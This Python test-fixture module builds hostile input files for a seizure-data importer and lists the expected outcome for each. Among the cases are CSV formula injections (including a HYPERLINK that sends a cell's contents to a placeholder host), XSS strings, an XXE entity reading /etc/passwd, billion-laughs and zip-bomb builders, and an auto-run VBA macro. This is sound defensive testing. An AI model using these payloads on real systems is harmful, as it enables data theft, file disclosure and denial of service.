"""Input files that try to break the importer (issue 8), each with the outcome an analyst should
get: rejected with a message naming the problem (and the row and column where there is one),
or accepted with named warnings and exactly the rows expected in the store.

Small files are built here from text; big ones (the 5 MB cell, the zip bomb, the files over the
upload limits) are built when a test asks for them, never committed. The one fixed file,
tests/hostile/password_protected.xlsx, is a real encrypted workbook (see tests/hostile/README.md).

Expected messages are regular expressions over the outcome's lines, each written as
'row R, column C: message' (or 'file: message'), the way RowError prints them.
"""

from __future__ import annotations

import codecs
import csv
import functools
import gzip
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

HOSTILE = Path(__file__).resolve().parent / "hostile"
HEADER = ["seizure_id", "date", "country_iso3", "drug", "quantity_kg", "conveyance", "location"]
# A valid row; tests change one cell of it. Ids start with HX- so they never clash with the demo.
BASE = ["HX-1", "2021-03-04", "COL", "cocaine_hcl", "12.5", "vessel", "Cartagena"]
# What the stored seizures look like for BASE (the columns the accepted cases check).
STORED_COLUMNS = ("seizure_id", "country_iso3", "quantity_kg", "location")
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
# Text that every supported encoding can hold, with letters that differ between code pages.
ACCENTED = "Côte d’Ivoire, São Tomé, Perú"


@dataclass(frozen=True)
class Case:
    """One hostile file and what importing it must do.

    `message`: a regex that must match one line of the errors (rejected) or of the warnings
    (accepted; None: no warning expected). `stored`: for accepted files, the rows the new version
    holds, ordered by seizure_id, as tuples of STORED_COLUMNS (or of `columns`).
    `upload`: for the upload page's path (prepare_upload) with `limits` set, the regex of the
    refusal; None means the upload reaches the same verdict and message as the command line.
    """

    name: str
    file_name: str
    build: Callable[[], bytes]
    rejected: bool
    message: str | None
    table: str = "seizures"
    stored: tuple[tuple[object, ...], ...] = ()
    columns: tuple[str, ...] = STORED_COLUMNS
    limits: dict[str, str] = field(default_factory=dict)
    upload: str | None = None
    by_store: bool = False  # refused by the store (ids already stored), not by the reading
    rows: int | None = None  # rows an accepted file adds, when not listed in `stored`
    postgres: bool = False  # in the PostgreSQL subset
    big: bool = False  # built at test time and several MB or more

    @property
    def added_rows(self) -> int:
        """Rows an accepted file adds to its table."""
        return len(self.stored) if self.rows is None else self.rows


def csv_bytes(
    rows: list[list[str]],
    header: list[str] = HEADER,
    *,
    delimiter: str = ",",
    encoding: str = "utf-8",
    newline: str = "\n",
) -> bytes:
    """A CSV file of `header` and `rows` as a spreadsheet writes it (quoted where needed)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def row(seizure_id: str = "HX-1", **changes: str) -> list[str]:
    """BASE with another id and some cells changed (by column name)."""
    cells = dict(zip(HEADER, BASE, strict=True))
    cells.update(seizure_id=seizure_id, **changes)
    return [cells[column] for column in HEADER]


def stored(seizure_id: str = "HX-1", **changes: object) -> tuple[object, ...]:
    """The stored STORED_COLUMNS of row(seizure_id, **changes) with BASE's country and kg."""
    values: dict[str, object] = {
        "seizure_id": seizure_id,
        "country_iso3": "COL",
        "quantity_kg": 12.5,
        "location": "Cartagena",
    }
    values.update(changes)
    return tuple(values[c] for c in STORED_COLUMNS)


def xlsx_bytes(sheets: dict[str, list[list[object]]]) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, cells in sheets.items():
        sheet = workbook.create_sheet(title)
        for cells_row in cells:
            sheet.append(cells_row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _valid_rows(n: int, prefix: str = "HX-") -> list[list[str]]:
    return [row(f"{prefix}{i:06d}") for i in range(1, n + 1)]


def _text(text: str) -> Callable[[], bytes]:
    return lambda: text.encode("utf-8")


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


# ---------------------------------------------------------------------------------------------
# Builders of the files that need more than a line of text


def _zip_renamed() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("seizures.csv", csv_bytes([row()]))
    return buffer.getvalue()


def _truncated_xlsx() -> bytes:
    data = xlsx_bytes({"data": [HEADER, row()]})
    return data[: len(data) // 2]


def _nul_bytes() -> bytes:
    return csv_bytes([row("HX-1"), row("HX-2", location="Santa\x00Marta"), row("HX-3")])


def _mixed_delimiters() -> bytes:
    text = csv_bytes([row("HX-1"), row("HX-2")]).decode()
    return (text + ";".join(row("HX-3")) + "\n" + ",".join(row("HX-4")) + "\n").encode()


def _ragged_extra_field() -> bytes:
    # a decimal comma, unquoted, in a comma-separated file: one field too many on row 3
    text = csv_bytes([row("HX-1")]).decode()
    return (text + ",".join(row("HX-2", location="Tumaco")).replace("12.5", "12,5") + "\n").encode()


def _ragged_short_row() -> bytes:
    text = csv_bytes([row("HX-1")]).decode()
    return (text + "HX-2,2021-03-04,COL,cocaine_hcl\n").encode()


@functools.cache
def _five_mb_cell() -> bytes:
    return csv_bytes([row("HX-1"), row("HX-2", location="x" * (5 * 1024 * 1024)), row("HX-3")])


def _quoted_newlines() -> bytes:
    return csv_bytes([row("HX-1", location='Port of\nCartagena,\r\n"pier 4"'), row("HX-2")])


def _quoted_newline_then_bad_row() -> bytes:
    # row numbers are records, as a spreadsheet shows them: the bad row is row 3, on line 5
    return csv_bytes([row("HX-1", location="a\nb\nc"), row("HX-2", quantity_kg="lots")])


def _unclosed_quote() -> bytes:
    text = csv_bytes([row("HX-1")]).decode()
    text += 'HX-2,2021-03-04,COL,cocaine_hcl,12.5,vessel,"Santa Marta\n'
    return (text + "".join(",".join(r) + "\n" for r in _valid_rows(3, "HX-Z"))).encode()


def _unclosed_quote_far_down() -> bytes:
    # past the first records the csv module reads: the rest goes to pyarrow first
    rows = _valid_rows(150)
    rows[119][6] = '"Buenaventura'
    lines = [",".join(HEADER)] + [",".join(r) for r in rows]
    return ("\n".join(lines) + "\n").encode()


def _two_hundred_columns() -> bytes:
    extra = [f"extra_{i}" for i in range(1, 194)]
    return csv_bytes([row() + [f"v{i}" for i in range(193)]], HEADER + extra)


def _cr_line_endings() -> bytes:
    return csv_bytes([row("HX-1"), row("HX-2")], newline="\r")


def _accented(encoding: str, bom: bytes = b"") -> Callable[[], bytes]:
    def build() -> bytes:
        return bom + csv_bytes([row("HX-1", location=ACCENTED)], encoding=encoding)

    return build


def _mac_roman() -> bytes:
    # Excel for Mac's 'CSV (Macintosh)': no BOM, and not a code page the reader guesses
    return csv_bytes([row("HX-1", location="Côte d’Ivoire, São Tomé")], encoding="mac_roman")


def _ebcdic() -> bytes:
    return csv_bytes([row("HX-1"), row("HX-2")], encoding="cp500")


def _mixed_encodings() -> bytes:
    # two files pasted together: UTF-8, then a line saved in Windows-1252
    utf8 = csv_bytes([row("HX-1", location="Perú"), row("HX-2", location="Bogotá")])
    return utf8 + (",".join(row("HX-3", location="Medellín")) + "\n").encode("cp1252")


def _many_rows(n: int) -> Callable[[], bytes]:
    @functools.cache
    def build() -> bytes:
        return csv_bytes(_valid_rows(n, "HX-L"))

    return build


@functools.cache
def _zip_bomb() -> bytes:
    """A workbook whose one sheet expands from about 1 MB to 1 GiB of XML when opened."""
    valid = xlsx_bytes({"data": [HEADER, row()]})
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(valid)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                continue
            target.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED)
        sheet = source.read("xl/worksheets/sheet1.xml")
        head, tail = sheet.split(b"<sheetData>")
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with target.open(info, "w", force_zip64=True) as handle:
            handle.write(head + b"<sheetData>")
            block = b" " * (16 << 20)
            for __ in range(64):  # whitespace between cells is valid XML
                handle.write(block)
            handle.write(tail)
    return buffer.getvalue()


def _unsupported_compression() -> bytes:
    """A workbook whose sheet is compressed with a method Python's zipfile cannot read (99: the
    AES encryption of WinZip and 7-Zip), as in both of the zip's headers of that part."""
    data = bytearray(xlsx_bytes({"data": [HEADER, row()]}))
    part = b"xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        local = archive.getinfo(part.decode()).header_offset
    data[local + 8 : local + 10] = (99).to_bytes(2, "little")
    central = data.index(b"PK\x01\x02")
    while not data[central + 46 :].startswith(part):
        central = data.index(b"PK\x01\x02", central + 4)
    data[central + 10 : central + 12] = (99).to_bytes(2, "little")
    return bytes(data)


def _password_protected() -> bytes:
    return (HOSTILE / "password_protected.xlsx").read_bytes()


def _xlsm_with_macros() -> bytes:
    """A macro-enabled workbook: a VBA project part and its content type, as Excel writes them."""
    valid = xlsx_bytes({"data": [HEADER, row("HX-M1"), row("HX-M2")]})
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(valid)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" '
                    b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/office/2006/'
                    b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
                )
            target.writestr(item, data)
        # an OLE2 header and a module's source: enough for anything that looks for macros
        target.writestr(
            "xl/vbaProject.bin",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b'Attribute VB_Name = "Module1"'
            b'\r\nSub Auto_Open()\r\nShell "calc.exe"\r\nEnd Sub\r\n',
        )
    return buffer.getvalue()


def _hundred_sheets() -> bytes:
    sheets: dict[str, list[list[object]]] = {"data": [HEADER, row("HX-S1")]}
    for i in range(2, 101):
        sheets[f"other {i}"] = [["note"], [f"sheet {i}"]]
    return xlsx_bytes(sheets)


def _xlsx_entities(doctype: bytes, text: bytes) -> Callable[[], bytes]:
    """A workbook whose location cell is a shared string declared with `doctype`."""

    def build() -> bytes:
        valid = xlsx_bytes({"data": [HEADER, row("HX-E1", location="PLACEHOLDER")]})
        buffer = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(valid)) as source, zipfile.ZipFile(buffer, "w") as target:
            for item in source.infolist():
                data = source.read(item.filename)
                if item.filename == "xl/worksheets/sheet1.xml":
                    data = data.replace(
                        b't="inlineStr"><is><t>PLACEHOLDER</t></is>',
                        b't="inlineStr"><is><t>' + text + b"</t></is>",
                    )
                    head, body = data.split(b"<worksheet", 1)
                    data = head + doctype + b"<worksheet" + body
                target.writestr(item, data)
        return buffer.getvalue()

    return build


# ten entities, each ten of the one before: 10 GB of text from a few hundred bytes
BILLION_LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        b"<!ENTITY " + bytes([letter]) + b' "' + (b"&" + bytes([letter - 1]) + b";") * 10 + b'">'
        for letter in range(ord("b"), ord("j") + 1)
    )
    + b"]>"
)
XXE = b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def _duplicate_ids(*ids: str) -> Callable[[], bytes]:
    return lambda: csv_bytes([row(i) for i in ids])


# ---------------------------------------------------------------------------------------------
# The corpus

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?d="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
HTML = (
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "<a href='javascript:alert(1)'>Cartagena</a>",
)

CASES: tuple[Case, ...] = (
    # -- empty and not a table ----------------------------------------------------------------
    Case("empty_file", "empty.csv", _const(b""), True, r"^file: empty\.csv: the file is empty$"),
    Case("blank_lines_only", "blank.csv", _const(b"\r\n \n\t\n\n"), True, r"the file is empty$"),
    Case("bom_only", "bom.csv", _const(codecs.BOM_UTF8), True, r"the file is empty$"),
    Case(
        "header_only",
        "header.csv",
        lambda: csv_bytes([]),
        True,
        r"^file: the file has no data rows: add rows below the header$",
    ),
    Case(
        "title_line_only",
        "title.csv",
        _text("Seizures 2021\n"),
        True,
        r"no header row: the file holds a single line of text, not a table",
    ),
    Case(
        "png_renamed_csv",
        "seizures.csv",
        _const(PNG + b"\x00" * 64),
        True,
        r"seizures\.csv: not a table file \(CSV, TXT or XLSX\): the file is a PNG image",
    ),
    Case(
        "zip_renamed_csv",
        "seizures.csv",
        _zip_renamed,
        True,
        r"seizures\.csv: not an Excel workbook, the file is a zip archive",
    ),
    Case(
        "gzip_renamed_csv",
        "seizures.csv",
        lambda: gzip.compress(csv_bytes([row()])),
        True,
        r"not a table file .*: the file is a gzip archive",
    ),
    Case(
        "pdf_renamed_xlsx",
        "seizures.xlsx",
        _const(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        True,
        r"cannot be opened as an Excel workbook: the file is a PDF document",
    ),
    Case(
        "csv_renamed_xlsx",
        "seizures.xlsx",
        lambda: csv_bytes([row()]),
        True,
        r"the file is text, not an Excel workbook \(if it is CSV, rename it to \.csv\)",
    ),
    Case(
        "truncated_xlsx",
        "seizures.xlsx",
        _truncated_xlsx,
        True,
        r"cannot be opened as an Excel workbook \(damaged zip container\)",
    ),
    # -- broken text ------------------------------------------------------------------------
    Case(
        "nul_bytes",
        "nul.csv",
        _nul_bytes,
        True,
        r"nul\.csv: line 3 holds a NUL \(zero\) byte",
        postgres=True,
    ),
    Case(
        "mixed_delimiters",
        "mixed.csv",
        _mixed_delimiters,
        True,
        r"^row 4: the row is not split into columns: it is separated by ';' where the rest "
        r"of the file uses ','",
    ),
    Case(
        "ragged_extra_field",
        "ragged.csv",
        _ragged_extra_field,
        True,
        r"^row 3: the row has 8 cells but the header has 7 columns: ",
    ),
    Case(
        "ragged_short_row",
        "short.csv",
        _ragged_short_row,
        True,
        r"^row 3: the row has 4 cells but the header has 7 columns: a delimiter ',' is missing",
    ),
    Case(
        "cell_5mb",
        "huge_cell.csv",
        _five_mb_cell,
        True,
        r"huge_cell\.csv: row 3, column 7 \(location\): a cell is too long \(field larger "
        r"than field limit \(131072\)\): a cell may hold up to 131,072 characters",
        postgres=True,
        big=True,
    ),
    Case(
        "quoted_newlines",
        "newlines.csv",
        _quoted_newlines,
        False,
        None,
        stored=(stored("HX-1", location='Port of\nCartagena,\r\n"pier 4"'), stored("HX-2")),
    ),
    Case(
        "quoted_newline_then_bad_row",
        "newlines_bad.csv",
        _quoted_newline_then_bad_row,
        True,
        r"^row 3, column quantity_kg \(value 'lots'\): not a number",
    ),
    Case(
        "unclosed_quote",
        "quote.csv",
        _unclosed_quote,
        True,
        r"quote\.csv: row 3, column 7 \(location\): the quote opened on line 3 is never "
        r"closed",
        postgres=True,
    ),
    Case(
        "unclosed_quote_far_down",
        "quote_far.csv",
        _unclosed_quote_far_down,
        True,
        r"quote_far\.csv: row 121, column 7 \(location\): the quote opened on line 121 is "
        r"never closed",
    ),
    Case(
        "two_hundred_columns",
        "wide.csv",
        _two_hundred_columns,
        False,
        r"^file \(value '.*'\): column\(s\) not recognised for the seizures table were ignored: "
        r"extra_1, "
        r"extra_2, .*extra_193; rename them",
        stored=(stored(),),
    ),
    Case(
        "cr_line_endings",
        "mac.csv",
        _cr_line_endings,
        False,
        None,
        stored=(stored("HX-1"), stored("HX-2")),
    ),
    # -- encodings --------------------------------------------------------------------------
    *(
        Case(
            f"encoding_{label}",
            f"{label}.csv",
            build,
            False,
            None,
            stored=(stored(location=ACCENTED),),
        )
        for label, build in (
            ("utf8", _accented("utf-8")),
            ("utf8_bom", _accented("utf-8-sig")),
            ("utf16_le_bom", _accented("utf-16-le", codecs.BOM_UTF16_LE)),
            ("utf16_be_bom", _accented("utf-16-be", codecs.BOM_UTF16_BE)),
            ("utf32_le_bom", _accented("utf-32-le", codecs.BOM_UTF32_LE)),
            ("utf32_be_bom", _accented("utf-32-be", codecs.BOM_UTF32_BE)),
            ("utf16_le_no_bom", _accented("utf-16-le")),
            ("utf16_be_no_bom", _accented("utf-16-be")),
            ("cp1252", _accented("cp1252")),
        )
    ),
    Case(
        "encoding_latin1",
        "latin1.csv",
        lambda: csv_bytes([row(location="São Tomé, Perú, Ñuñoa")], encoding="latin-1"),
        False,
        None,
        stored=(stored(location="São Tomé, Perú, Ñuñoa"),),
    ),
    Case(
        "encoding_mac_roman_undeclared",
        "mac_roman.csv",
        _mac_roman,
        False,
        r"^row 2, column location \(value '.*'\): the file is not UTF-8 and was read as "
        r"Windows-1252, but this text looks garbled",
        # stored as the reader read it: the analyst is told before confirming
        stored=(stored(location="Côte d’Ivoire, São Tomé".encode("mac_roman").decode("cp1252")),),
    ),
    Case(
        "encoding_ebcdic_undeclared",
        "ebcdic.csv",
        _ebcdic,
        True,
        r"ebcdic\.csv: the text encoding could not be recognised: save it as CSV UTF-8",
    ),
    Case(
        "encoding_mixed_utf8_cp1252",
        "mixed_encoding.csv",
        _mixed_encodings,
        True,
        r"mixed_encoding\.csv: line 4 is not UTF-8 like the rest of the file",
        postgres=True,
    ),
    # -- formulas, HTML and control characters in text cells: stored as typed ---------------
    Case(
        "formulas_in_text_cells",
        "formulas.csv",
        lambda: csv_bytes([row(f"HX-F{i}", location=f) for i, f in enumerate(FORMULAS)]),
        False,
        None,
        stored=tuple(stored(f"HX-F{i}", location=f) for i, f in enumerate(FORMULAS)),
        postgres=True,
    ),
    Case(
        "formula_in_quantity",
        "formula_kg.csv",
        lambda: csv_bytes([row(quantity_kg="=1+1")]),
        True,
        r"^row 2, column quantity_kg \(value '=1\+1'\): not a number",
    ),
    Case(
        "formula_as_id",
        "formula_id.csv",
        lambda: csv_bytes([row('=HYPERLINK("http://x.invalid")')]),
        False,
        None,
        stored=(stored('=HYPERLINK("http://x.invalid")'),),
    ),
    Case(
        "html_in_text_cells",
        "html.csv",
        lambda: csv_bytes([row(f"HX-H{i}", location=h) for i, h in enumerate(HTML)]),
        False,
        None,
        stored=tuple(stored(f"HX-H{i}", location=h) for i, h in enumerate(HTML)),
        postgres=True,
    ),
    Case(
        "html_in_header",
        "html_header.csv",
        lambda: csv_bytes([[*row(), "x"]], [*HEADER, "<b onmouseover=alert(1)>notes</b>"]),
        False,
        r"^file \(value '<b onmouseover=alert\(1\)>notes</b>'\): column\(s\) not recognised",
        stored=(stored(),),
    ),
    Case(
        "terminal_escapes_in_text",
        "escapes.csv",
        # (among enough text that the file is not taken for binary data)
        lambda: csv_bytes(
            [row("HX-0", location="\x1b[2J\x1b]0;pwned\x07Cartagena"), *_valid_rows(20)]
        ),
        True,
        r"^row 2, column location \(value '\\x1b\[2J.*'\): the cell holds an invisible "
        r"control character \(U\+001B\), which no spreadsheet cell may hold",
    ),
    # -- numbers ----------------------------------------------------------------------------
    Case(
        "quantity_nan",
        "nan.csv",
        lambda: csv_bytes([row("HX-1", quantity_kg="NaN"), row("HX-2", quantity_kg="nan")]),
        True,
        r"^row 2, column quantity_kg \(value 'NaN'\): not a number",
    ),
    Case(
        "quantity_infinite",
        "inf.csv",
        lambda: csv_bytes(
            [
                row("HX-1", quantity_kg="inf"),
                row("HX-2", quantity_kg="-Infinity"),
                row("HX-3", quantity_kg="1e309"),
            ]
        ),
        True,
        r"^row 4, column quantity_kg \(value '1e309'\): not a number",
    ),
    Case(
        "quantity_1e308",
        "big_number.csv",
        lambda: csv_bytes([row(quantity_kg="1e308")]),
        True,
        r"^row 2, column quantity_kg \(value '1e308'\): an impossible quantity: more than "
        r"10,000,000 kg",
        postgres=True,
    ),
    Case(
        "quantity_overflow_through_unit",
        "tonnes.csv",
        lambda: csv_bytes([[*row(), "t"]], [*HEADER, "unit"]).replace(b"12.5", b"1e306"),
        True,
        r"^row 2, column quantity_kg \(value '1e306'\): an impossible quantity",
    ),
    Case(
        "quantity_negative_zero",
        "minus_zero.csv",
        lambda: csv_bytes([row("HX-1", quantity_kg="-0"), row("HX-2", quantity_kg="-0.0")]),
        True,
        # -0 is 0: a seizure of nothing is skipped, and nothing is left to load
        r"^file: nothing left to load: every row was skipped",
    ),
    Case(
        "quantity_negative",
        "negative.csv",
        lambda: csv_bytes([row(quantity_kg="-5")]),
        True,
        r"^row 2, column quantity_kg \(value '-5(\.0)?'\): quantity cannot be negative",
    ),
    Case(
        "arrests_beyond_integers",
        "arrests.csv",
        lambda: csv_bytes(
            [[*row("HX-1"), "1e308"], [*row("HX-2"), "99999999999999999999"]], [*HEADER, "arrests"]
        ),
        True,
        r"^row 3, column arrests \(value '99999999999999999999'\): too large for this column",
    ),
    Case(
        "annual_year_and_negative_zero",
        "annual.csv",
        # Spanish headers: not a dataUNODC export, so read as an analyst's table
        _text("País,Año,Droga,Cantidad\nCOL,1e308,cocaína,10\nPER,2021,cocaína,-0\n"),
        True,
        r"^row 2, column Año \(value '1e308'\): too large for this column",
        table="annual",
    ),
    Case(
        "annual_negative_zero_is_zero",
        "annual_zero.csv",
        _text("País,Año,Droga,Cantidad\nPER,2021,cocaína,-0\n"),
        False,
        None,
        table="annual",
        stored=(("PER", 2021, 0.0),),  # +0.0: the test compares the sign of zeros too
        columns=("country_iso3", "year", "quantity_kg"),
    ),
    Case(
        "annual_unodc_layout_1e308",
        "unodc.csv",
        # dataUNODC's own column names: read by the UNODC importer, checked by the store
        _text("msCode,Reference year,DrugName,Kilograms\nECU,2021,Cocaine,1e308\n"),
        True,
        r"^row 2, column quantity_kg \(value '1e\+308'\): an impossible quantity: more than "
        r"10,000,000 kg",
        table="annual",
    ),
    Case(
        "cases_defendants_huge",
        "cases.csv",
        _text(
            "case_id,country_iso3,opened_date,outcome,defendants,sentence_months\n"
            "HX-C1,COL,2021-01-01,pending,1e20,\n"
            "HX-C2,COL,2021-01-01,convicted,2,inf\n"
        ),
        True,
        r"^row 2, column defendants \(value '1e20'\): too large for this column",
        table="cases",
        postgres=True,
    ),
    # -- dates ------------------------------------------------------------------------------
    Case(
        "date_all_zeros",
        "zeros.csv",
        lambda: csv_bytes([row(date="0000-00-00")]),
        True,
        r"^row 2, column date \(value '0000-00-00'\): not a valid date: check day and month",
    ),
    Case(
        "date_31_february",
        "feb.csv",
        lambda: csv_bytes([row("HX-1", date="31/02/2023"), row("HX-2", date="28/02/2023")]),
        True,
        r"^row 2, column date \(value '31/02/2023'\): not a valid date",
    ),
    Case(
        "date_2099",
        "future.csv",
        lambda: csv_bytes([row(date="2099-01-01")]),
        True,
        r"^row 2, column date \(value '2099-01-01'\): date in the future",
    ),
    Case(
        "date_far_outside_the_calendar",
        "far_dates.csv",
        lambda: csv_bytes([row("HX-1", date="9999-12-31"), row("HX-2", date="0001-01-01")]),
        True,
        r"^row 3, column date \(value '0001-01-01'\): date before 1990",
    ),
    # -- workbooks --------------------------------------------------------------------------
    Case(
        "xlsx_zip_bomb",
        "bomb.xlsx",
        _zip_bomb,
        True,
        r"bomb\.xlsx: the workbook would expand from 1 MB to 1,024 MB when opened",
        upload=r"bomb\.xlsx: the workbook would expand",
        postgres=True,
        big=True,
    ),
    Case(
        "xlsx_password_protected",
        "protected.xlsx",
        _password_protected,
        True,
        r"protected\.xlsx: the workbook is protected with a password \(encrypted\)",
        postgres=True,
    ),
    Case(
        "xlsx_unsupported_compression",
        "aes.xlsx",
        _unsupported_compression,
        True,
        r"aes\.xlsx: cannot be opened as an Excel workbook \(That compression method is not "
        r"supported\)",
    ),
    Case(
        "xlsm_with_macros",
        "macros.xlsm",
        _xlsm_with_macros,
        False,
        r"^file: the workbook contains macros: they were not run, only the cells' values were "
        r"read$",
        stored=(stored("HX-M1"), stored("HX-M2")),
        postgres=True,
    ),
    Case(
        "xlsx_hundred_sheets",
        "sheets.xlsx",
        _hundred_sheets,
        False,
        r"^file: the workbook has 100 sheets: only the first, 'data', was read",
        stored=(stored("HX-S1"),),
    ),
    Case(
        "xlsx_billion_laughs",
        "laughs.xlsx",
        _xlsx_entities(BILLION_LAUGHS, b"&j;"),
        True,
        r"laughs\.xlsx: the workbook's part xl/worksheets/sheet1\.xml declares XML entities",
    ),
    Case(
        "xlsx_external_entity",
        "xxe.xlsx",
        _xlsx_entities(XXE, b"&x;"),
        True,
        r"xxe\.xlsx: the workbook's part xl/worksheets/sheet1\.xml declares XML entities",
    ),
    # -- ids --------------------------------------------------------------------------------
    Case(
        "duplicate_ids",
        "dup.csv",
        _duplicate_ids("HX-1", "HX-2", "HX-1"),
        True,
        r"^row 4, column seizure_id \(value 'HX-1'\): duplicate id: also on row\(s\) 2; ",
        postgres=True,
    ),
    Case(
        "ids_differ_by_whitespace",
        "dup_space.csv",
        lambda: csv_bytes([row("HX-1"), row("HX-2")]).replace(b"HX-2", b" \xc2\xa0HX-1\t"),
        True,
        r"^row 3, column seizure_id \(value 'HX-1'\): duplicate id: also on row\(s\) 2; ",
    ),
    Case(
        "ids_differ_by_case",
        "dup_case.csv",
        _duplicate_ids("HX-a1", "hx-A1"),
        True,
        r"^row 3, column seizure_id \(value 'hx-A1'\): duplicate id: also on row\(s\) 2, "
        r"written 'HX-a1' there: ids are compared ignoring case",
    ),
    Case(
        "ids_differ_by_invisible_characters",
        "dup_invisible.csv",
        _duplicate_ids("HX-1", "HX-\u200b1", "HX-\u00e9", "HX-e\u0301"),
        True,
        r"^row 3, column seizure_id \(value 'HX-\\u200b1'\): duplicate id: also on row\(s\) 2, "
        r"written 'HX-1' there",
    ),
    Case(
        "id_already_in_the_store",
        "stored_id.csv",
        _duplicate_ids("DEMO-S2016-0000001"),
        True,
        r"DEMO-S2016-0000001",
        by_store=True,
        postgres=True,
    ),
    # -- limits: the size is an upload's (the command line has none), the rows every import's --
    Case(
        "ten_times_the_size_limit",
        "big.csv",
        _many_rows(8000),
        False,
        None,
        rows=8000,
        limits={"CRIMJUST_MAX_UPLOAD_MB": "0.05"},
        upload=r"big\.csv is 0\.5 MB, over the 0\.05 MB limit for an upload",
        big=True,
    ),
    Case(
        "ten_times_the_row_limit",
        "rows.csv",
        _many_rows(500),
        True,
        r"rows\.csv has 500 data rows, more than the 50 a file may have",
        limits={"CRIMJUST_MAX_ROWS": "50"},
    ),
)

CASE_BY_NAME = {case.name: case for case in CASES}
assert len(CASE_BY_NAME) == len(CASES), "case names must be unique"


def materialise(case: Case, folder: Path) -> Path:
    """Write the case's file into `folder` (a folder of its own: names repeat across cases)."""
    target = folder / case.name
    target.mkdir(parents=True, exist_ok=True)
    path = target / case.file_name
    path.write_bytes(case.build())
    return path
